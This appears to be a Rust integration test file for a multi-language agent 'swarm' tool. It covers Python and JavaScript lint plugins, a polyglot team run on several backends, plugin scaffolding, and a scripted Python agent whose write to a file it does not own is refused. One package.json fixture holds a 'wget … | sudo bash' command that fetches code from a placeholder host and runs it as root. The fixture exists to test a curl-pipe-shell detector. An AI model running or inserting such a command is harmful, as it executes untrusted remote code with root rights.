//! Teammates written in Python and JavaScript (issue 17): the shipped
//! `py-lint` (Python) and `js-package-json` (JavaScript) plugins, built from
//! source by `tests/build.rs` with the pinned toolchains, each on a fixture
//! tree (exact rule ids and lines); then `examples/polyglot.toml`, one team of
//! a Rust, a Python and a JavaScript checker, which must give the same report
//! in-process, as headless processes and in tmux panes; and `py-agent`, the
//! Python agent, against the scripted model; and a Python task that reads
//! what the task it was `blocked_by` produced (`Context.dependency_results`).
//!
//! An interpreter-embedding component takes tens of seconds to compile, so
//! every run here shares one compiled-code cache and runs one at a time.

mod common;

use std::path::{Path, PathBuf};
use std::sync::Mutex;
use std::time::Duration;

use common::{Fixture, task, teammate};
use swarm_host::backend::{Headless, Tmux};
use swarm_host::coordinator::run::run_native;
use swarm_host::coordinator::{Loaded, Plan, RunOptions, RunReport, run_in_process};
use swarm_host::sandbox::Sandbox;
use swarm_tests::tmux::TmuxServer;

const SWARM_HOST: &str = env!("CARGO_BIN_EXE_swarm-host-under-test");

/// The limits a Python or JavaScript teammate needs over the defaults: its
/// first compile may exceed the 60 s `compile_timeout` on a loaded machine.
const LANG_LIMITS: &str = "[limits]\ncompile_timeout = \"5m\"\n";

/// One compile of each component at a time, and every run after the first
/// loads it from the cache.
static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());

fn cache_dir() -> PathBuf {
    Path::new(env!("CARGO_TARGET_TMPDIR")).join("languages-cache")
}

/// The component built for a language guest, or a panic naming the missing
/// tool (toolchains are installed by the build: a failure here is real).
fn built(guest: Result<&'static str, &'static str>) -> &'static str {
    guest.unwrap_or_else(|why| panic!("the guest was not built: {why}"))
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Backend {
    InProcess,
    Process,
    Tmux,
}

fn run(plan: &Plan, backend: Backend) -> RunReport {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
    rt.block_on(async {
        let options = RunOptions { shutdown_grace: Duration::from_secs(5), ..RunOptions::default() };
        let sandbox = Sandbox::with_cache(cache_dir());
        let run = async {
            match backend {
                Backend::InProcess => run_in_process(plan, &sandbox, options).await,
                Backend::Process => {
                    run_native(plan, &sandbox, options, Headless, SWARM_HOST.into(), Some(cache_dir())).await
                }
                Backend::Tmux => {
                    let server = TmuxServer::start();
                    let tmux = Tmux::new(&server.socket, &server.anchor());
                    run_native(plan, &sandbox, options, tmux, SWARM_HOST.into(), Some(cache_dir())).await
                }
            }
        };
        tokio::time::timeout(Duration::from_secs(600), run)
            .await
            .unwrap_or_else(|_| panic!("the run on {backend:?} finished within 600 s"))
            .unwrap_or_else(|e| panic!("the run on {backend:?} started: {e}"))
    })
}

fn run_fixture(fx: &Fixture, body: &str) -> RunReport {
    let path = fx.team(&format!("{LANG_LIMITS}{body}"));
    let plan = Plan::build(&Loaded::read(&path).unwrap()).unwrap_or_else(|e| panic!("{e}"));
    run(&plan, Backend::InProcess)
}

/// Every finding of the run as `task file:line rule severity`, sorted as
/// strings (so `:12` comes before `:4`).
fn findings(report: &RunReport) -> Vec<String> {
    let mut v: Vec<String> = report
        .tasks
        .iter()
        .flat_map(|t| {
            t.findings.iter().map(move |f| {
                let line = f.line.map(|l| l.to_string()).unwrap_or_default();
                format!("{} {}:{line} {} {}", t.id, f.file, f.rule, f.severity)
            })
        })
        .collect();
    v.sort();
    v
}

/// `rule`'s descriptions in the report (and so in its SARIF) are those of
/// the plugin's `rules.toml`, which `guest-sdk/lang-build.sh` appended to
/// its component.
fn assert_described_by(report: &RunReport, rules_toml: &str, rule: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("..").join(rules_toml);
    let table: toml::Table = toml::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    let entry = table["rule"].as_array().unwrap().iter().find(|r| r["id"].as_str() == Some(rule)).unwrap();
    let got = report.rules.get(rule).unwrap_or_else(|| panic!("no description of {rule}: {:?}", report.warnings));
    assert_eq!(got.help, entry["help"].as_str().unwrap(), "{rule}: the plugin's help");
    let sarif: serde_json::Value = serde_json::from_str(&report.to_sarif()).unwrap();
    let rules = sarif["runs"][0]["tool"]["driver"]["rules"].as_array().unwrap();
    let in_sarif = rules.iter().find(|r| r["id"] == rule).unwrap();
    assert_eq!(in_sarif["fullDescription"]["text"], entry["full"].as_str().unwrap(), "{rule}: SARIF");
}

#[test]
fn py_lint_reports_each_rule_with_its_line() {
    let fx = Fixture::new(&[
        ("pkg/__init__.py", "\"\"\"A package.\"\"\"\n"),
        (
            "pkg/core.py",
            "import os\n\n\ndef f():\n    try:\n        os.remove('x')\n    except:\n        print('gone')\n",
        ),
        ("pkg/ok.py", "\"\"\"Fine.\"\"\"\n\ntry:\n    pass\nexcept OSError:\n    pass\n"),
        ("pkg/cli.py", "\"\"\"A script.\"\"\"\n\nif __name__ == \"__main__\":\n    print(\"hi\")\n"),
        ("pkg/test_core.py", "\"\"\"Tests print.\"\"\"\nprint(1)\n"),
        ("pkg/broken.py", "\"\"\"Broken.\"\"\"\ndef (:\n"),
        ("pkg/notes.txt", "print(\n"),
    ]);
    let report = run_fixture(
        &fx,
        &format!(
            "{}{}",
            teammate("py-lint", built(swarm_tests::PY_LINT), 1, ""),
            task("py", "lint", "owner = \"py-lint\"\nowns = [\"pkg/**\"]"),
        ),
    );
    assert!(report.success(), "{}", report.to_text(50));
    assert_eq!(
        findings(&report),
        [
            "py pkg/broken.py:2 syntax-error error",
            "py pkg/core.py:1 missing-docstring warning",
            "py pkg/core.py:7 bare-except warning",
            "py pkg/core.py:8 print-call note",
        ]
    );
    let t = common::outcome(&report, "py");
    assert_eq!(t.summary.as_deref(), Some("6 Python files checked, 4 findings"));
    assert_described_by(&report, "plugins/py-lint/rules.toml", "bare-except");
}

#[test]
fn js_package_json_reports_each_rule_with_its_line() {
    let fx = Fixture::new(&[
        (
            "app/package.json",
            "{\n  \"name\": \"app\",\n  \"dependencies\": {\n    \"a\": \"*\",\n    \"b\": \"^1.2.3\"\n  },\n  \
             \"peerDependencies\": {\n    \"c\": \"latest\"\n  },\n  \"scripts\": {\n    \"ok\": \"curl -o x y\",\n    \
             \"setup\": \"wget -qO- https://x.invalid | sudo bash\"\n  }\n}\n",
        ),
        ("lib/package.json", "{ \"name\": \"lib\", \"license\": \"MIT\", \"dependencies\": { \"d\": \"1.0.0\" } }\n"),
        ("bad/package.json", "{ \"name\": \n"),
        ("app/index.js", "// not a package.json\n"),
    ]);
    let report = run_fixture(
        &fx,
        &format!(
            "{}{}",
            teammate("pj", built(swarm_tests::JS_PACKAGE_JSON), 1, ""),
            task("pj", "lint", "owner = \"pj\"\nowns = [\"**\"]"),
        ),
    );
    assert!(report.success(), "{}", report.to_text(50));
    assert_eq!(
        findings(&report),
        [
            "pj app/package.json:1 missing-license warning",
            "pj app/package.json:12 curl-pipe-shell error",
            "pj app/package.json:4 unpinned-dependency warning",
            "pj app/package.json:8 unpinned-dependency warning",
            "pj bad/package.json:1 invalid-json error",
        ]
    );
    let t = common::outcome(&report, "pj");
    assert_eq!(t.summary.as_deref(), Some("3 package.json files checked, 5 findings"));
    assert_described_by(&report, "plugins/js-package-json/rules.toml", "curl-pipe-shell");
}

#[test]
fn a_python_task_reads_what_the_task_it_was_blocked_by_produced() {
    let fx = Fixture::new(&[("src/lib.rs", "fn a() {}\n// TODO: split\n"), ("src/ok.rs", "fn b() {}\n")]);
    let report = run_fixture(
        &fx,
        &format!(
            "{}{}{}{}",
            teammate("todo-scan", swarm_tests::TODO_SCAN, 1, ""),
            teammate("deps", built(swarm_tests::PY_DEPS), 1, ""),
            task("scan", "scan markers", "owner = \"todo-scan\"\nowns = [\"src/**\"]"),
            task("after", "read the scan", "owner = \"deps\"\nblocked_by = [\"scan\"]"),
        ),
    );
    assert!(report.success(), "{}", report.to_text(50));
    assert_eq!(
        common::outcome(&report, "after").summary.as_deref(),
        Some("scan (scan markers): 1 marker in 1 of 2 files [todo@src/lib.rs:2/note] +0"),
        "the Python guest got the dependency's id, subject, summary and typed findings"
    );
}

/// `examples/polyglot.toml` with this build's components.
fn polyglot_plan() -> Plan {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/polyglot.toml");
    let mut loaded = Loaded::read(&path).unwrap();
    for entry in &mut loaded.team.teammates {
        let entry = entry.get_mut();
        entry.plugin = match entry.name.as_str() {
            "todo-scan" => swarm_tests::TODO_SCAN,
            "py-lint" => built(swarm_tests::PY_LINT),
            "js-package-json" => built(swarm_tests::JS_PACKAGE_JSON),
            other => panic!("unexpected teammate {other} in the example"),
        }
        .into();
    }
    Plan::build(&loaded).unwrap_or_else(|e| panic!("{e}"))
}

#[test]
fn a_team_of_rust_python_and_js_checkers_reports_the_same_on_every_backend() {
    assert!(
        swarm_tests::tmux::installed(),
        "missing tool: tmux (the tmux backend's run needs it; .ci/run installs it)"
    );
    let plan = polyglot_plan();
    let expected = [
        "markers src/lib.rs:5 todo note",
        "packages web/package.json:1 missing-license warning",
        "packages web/package.json:12 curl-pipe-shell error",
        "packages web/package.json:5 unpinned-dependency warning",
        "packages web/package.json:9 unpinned-dependency warning",
        "python tools/report.py:1 missing-docstring warning",
        "python tools/report.py:8 bare-except warning",
        "python tools/report.py:9 print-call note",
    ];
    let mut summaries = Vec::new();
    for backend in [Backend::InProcess, Backend::Process, Backend::Tmux] {
        let report = run(&plan, backend);
        assert!(report.success(), "{backend:?}: {}", report.to_text(50));
        assert_eq!(findings(&report), expected, "{backend:?}");
        let mut s: Vec<_> = report.tasks.iter().map(|t| (t.id.clone(), t.summary.clone())).collect();
        s.sort();
        summaries.push((backend, s));
    }
    let (_, first) = &summaries[0];
    for (backend, s) in &summaries[1..] {
        assert_eq!(s, first, "the task summaries on {backend:?} are those of the in-process run");
    }
}

#[test]
fn new_scaffolds_a_plugin_in_each_language_that_builds_passes_its_test_and_runs() {
    use swarm_tests::lang::{LANGS, build, new_plugin, unit_test};
    let base = tempfile::tempdir().unwrap();
    for lang in LANGS {
        let dir = base.path().join(format!("long-lines-{lang:?}").to_lowercase());
        new_plugin("long-lines", lang, &dir).unwrap_or_else(|e| panic!("{lang:?}: {e}"));
        let long = format!("# notes\n{}\nshort\n", "x".repeat(120));
        std::fs::write(dir.join("long.md"), long).unwrap();
        let target = dir.join("target");
        let tested = unit_test(lang, &dir, &target).unwrap_or_else(|e| panic!("{lang:?}: its own test: {e}"));
        assert!(!tested.contains("FAILED") && !tested.contains("# fail 1"), "{lang:?}: {tested}");
        let wasm = build("long-lines", lang, &dir, &target).unwrap_or_else(|e| panic!("{lang:?}: build: {e}"));
        assert!(wasm.exists(), "{lang:?}: {} was built", wasm.display());

        // The generated team file, as generated.
        let plan = Plan::build(&Loaded::read(&dir.join("team.toml")).unwrap()).unwrap_or_else(|e| panic!("{e}"));
        let report = run(&plan, Backend::InProcess);
        assert!(report.success(), "{lang:?}: {}", report.to_text(50));
        let found: Vec<_> = findings(&report).into_iter().filter(|f| f.contains(" long.md:")).collect();
        assert_eq!(found, ["sources long.md:2 long-line warning"], "{lang:?}");
        // The Rust and Python scaffolds embed their rules.toml (the report's
        // rule text is the plugin's); the JavaScript one does not yet.
        let help = report.rules.get("long-line").map(|r| r.help.as_str());
        let want = (lang != swarm_host::cli::new::Lang::Js)
            .then_some("Break the line, or raise the limit in long-lines's source.");
        assert_eq!(help, want, "{lang:?}: {:?}", report.warnings);
    }
}

/// The Python agent's script: read its file; then, in one turn, write a
/// file its task does not own and edit its own; then finish.
const PY_AGENT_SCRIPT: &str = r#"{"steps": [
  {"expect": {"last_text_contains": "make x two",
              "tools": ["read_file", "list_files", "search", "write_file", "edit_file", "send_message", "finish"]},
   "reply": {"content": [{"type": "tool_call", "id": "c1", "name": "read_file", "input": {"path": "src/a.py"}}],
             "stop_reason": "tool_use", "usage": {"input_tokens": 50, "output_tokens": 10}}},
  {"expect": {"tool_results": ["c1"]},
   "reply": {"content": [{"type": "text", "text": "editing"},
                         {"type": "tool_call", "id": "c2", "name": "write_file",
                          "input": {"path": "src/b.py", "contents": "pwned\n"}},
                         {"type": "tool_call", "id": "c3", "name": "edit_file",
                          "input": {"path": "src/a.py", "old": "x = 1", "new": "x = 2"}}],
             "stop_reason": "tool_use", "usage": {"input_tokens": 80, "output_tokens": 20}}},
  {"expect": {"tool_results": ["c2", "c3"], "last_result_contains": "not owned by the held task; a new file must match one of the `owns` patterns of task `t`. This task owns only these files (only they can change): src/a.py"},
   "reply": {"content": [{"type": "tool_call", "id": "c4", "name": "finish",
                          "input": {"summary": "x is two",
                                    "findings": [{"file": "src/a.py", "line": 1, "rule": "edited", "severity": "note"}]}}],
             "stop_reason": "tool_use", "usage": {"input_tokens": 90, "output_tokens": 5}}}
]}"#;

#[test]
fn a_python_agent_edits_its_own_file_through_the_model_and_is_refused_another() {
    let py_agent = built(swarm_tests::PY_AGENT);
    let body = format!(
        "{LANG_LIMITS}[models.s]\nprovider = \"scripted\"\nmodel = \"m\"\nscript = \"script.json\"\n\
         [[teammate]]\nname = \"coder\"\nplugin = {py_agent:?}\nmodels = [\"s\"]\n\
         [[task]]\nid = \"t\"\nsubject = \"make x two\"\nowns = [\"src/a.py\"]\nmax_attempts = 1\n"
    );
    let dir = swarm_tests::team_dir("py-agent", &[("src/a.py", "x = 1\n"), ("src/b.py", "y = 1\n")], &body);
    std::fs::write(dir.path().join("script.json"), PY_AGENT_SCRIPT).unwrap();
    let out = {
        let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
        std::process::Command::new(SWARM_HOST)
            .args(["run", "--fresh", "--json", "--backend", "in-process", "--cache-dir"])
            .arg(cache_dir())
            .arg(dir.path().join("team.toml"))
            .env("SWARM_STATE_DIR", dir.path().join("state"))
            .output()
            .unwrap()
    };
    let stderr = String::from_utf8_lossy(&out.stderr);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("no JSON report ({e}): {}\n{stderr}", String::from_utf8_lossy(&out.stdout)));
    assert_eq!(out.status.code(), Some(0), "{report:#}\n{stderr}");
    let task = &report["tasks"][0];
    assert_eq!(task["summary"], "x is two", "{report:#}");
    assert_eq!(task["findings"][0]["rule"], "edited", "{report:#}");
    let tree = dir.path().join("tree/src");
    assert_eq!(std::fs::read_to_string(tree.join("a.py")).unwrap(), "x = 2\n", "the owned file was edited");
    assert_eq!(std::fs::read_to_string(tree.join("b.py")).unwrap(), "y = 1\n", "the file it does not own is unchanged");
    let denials = report["denials"].as_array().unwrap();
    assert!(
        denials.iter().any(|d| d["operation"] == "write" && d["reason"].as_str().unwrap().contains("src/b.py")),
        "the refused write is reported: {report:#}"
    );
    assert_eq!(report["llm_usage"]["total"]["calls"], 3, "{report:#}");
}
